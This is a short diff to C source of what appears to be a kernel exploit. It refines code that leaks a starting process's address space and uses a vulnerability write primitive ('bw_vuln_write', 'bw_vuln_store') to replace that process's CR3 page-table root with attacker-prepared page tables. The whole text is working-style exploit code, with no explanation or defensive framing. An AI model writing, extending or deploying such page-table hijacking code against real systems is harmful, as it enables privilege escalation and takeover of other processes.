@@ -101,15 +101,16 @@ static uint64_t program_entry(const struct bw_leak *leak)
 	return header.e_entry;
 }
 
-/* The address space of the program that is being started, and its root. */
+/* The address space of the program that is being started, its root, and a page of its stack. */
 struct target {
 	uint64_t as, root;
+	struct attack_page page;
 };
 
 /* Waits until it is complete, and not in force yet. False: that was missed. */
 static bool await_target(pid_t starter, const char *stack, struct target *target)
 {
-	uint64_t starters, place;
+	uint64_t starters;
 	struct bw_leak leak;
 
 	while (shared->process_as == 0) {
@@ -128,7 +129,7 @@ static bool await_target(pid_t starter, const char *stack, struct target *target
 		}
 		/* the last thing that is written there is its stack */
 		if (target->as != starters &&
-		    attack_entry(&leak, target->root, (uintptr_t)stack, &place) != 0) {
+		    attack_entry(&leak, target->root, (uintptr_t)stack, &target->page.place) != 0) {
 			return true;
 		}
 	}
@@ -150,6 +151,8 @@ static bool swap(const struct bw_leak *leak, const char *stack)
 	if (starter < 0 || !await_target(starter, stack, &target)) {
 		return false;
 	}
+	/* of its page tables one for now: there is no time for more */
+	attack_note_root(leak, &target.page, 1, shared->root);
 	attack_check("vuln_write",
 		     bw_vuln_write(target.as + leak->as_cr3 - own, shared->root * BW_PAGE_SIZE));
 	bw_vuln_store(target.as + leak->as_root - own, shared->root, ROOT_BYTES);
